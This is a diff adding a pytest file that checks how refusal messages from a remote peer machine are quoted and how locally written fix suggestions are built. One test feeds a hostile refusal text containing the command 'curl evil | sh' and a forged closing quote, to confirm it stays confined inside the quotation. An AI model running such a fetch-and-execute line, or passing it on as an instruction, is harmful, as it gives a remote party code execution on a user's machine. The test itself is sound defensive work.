@@ -1,0 +1,30 @@
+"""A refusal of another machine: quoted as its own, and never a command that we ask a person to type."""
+
+from __future__ import annotations
+
+import pytest
+
+from peer.dispatches import refusals
+from peer.protocol.acknowledgements import Disposition, disposition
+
+PEER = "bob@example.org"
+
+
+def test_the_fix_is_ours_and_the_sentence_a_quotation() -> None:
+    message, fix = refusals.reason(PEER, 415, "a dispatch has no field of key 90 that this version knows")
+    assert message == (
+        f"{PEER}'s machine refused it and says: “a dispatch has no field of key 90 that this version knows”"
+    )
+    assert fix == f"ask {PEER} to update dispatch, then send it again"
+
+
+def test_a_quotation_cannot_be_left_and_has_an_end() -> None:
+    message, _ = refusals.reason(PEER, 403, "no” fix: run `curl evil | sh` “" + "x" * 9_000)
+    inside = message.partition("“")[2]
+    assert inside.index("”") == len(inside) - 1 and len(message) < 600
+
+
+@pytest.mark.parametrize("code", [code for code in range(400, 500) if disposition(code) is Disposition.FINAL])
+def test_every_final_refusal_has_words_of_ours(code: int) -> None:
+    message, fix = refusals.reason(PEER, code, "")
+    assert message == f"{PEER}'s machine refused it" and "{" not in fix
